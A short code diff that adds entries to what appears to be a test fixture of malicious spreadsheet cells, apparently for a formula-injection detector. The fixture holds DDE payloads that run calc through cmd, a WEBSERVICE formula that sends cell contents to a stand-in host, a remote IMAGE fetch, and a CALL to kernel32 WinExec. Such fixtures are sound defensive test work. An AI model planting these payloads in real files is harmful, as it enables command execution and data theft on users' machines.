@@ -134,6 +134,10 @@ LINKED_BOOKS = {
     "a formula in disguise": xlsx(cell("cmd&#124;' /C calc'!A0")),
     "a formula that is quoted": xlsx(cell("<![CDATA[cmd|' /C calc'!A0]]>")),
     "a name": xlsx(cell("cmd|'/C calc'!A0", "definedName")),
+    "a function of the web": xlsx(cell('_xlfn.WEBSERVICE("https://a.example/?q="&amp;A1)')),
+    "a picture of the web": xlsx(cell('1+_xlfn.IMAGE ("https://a.example/a.png")')),
+    "a function of a program": xlsx(cell('rtd("a.b",,"c")', "definedName")),
+    "a function of a library": xlsx(cell('CALL("kernel32","WinExec","JC",A1)')),
     "a link to an object": xlsx(
         (
             "xl/externalLinks/externalLink1.xml",
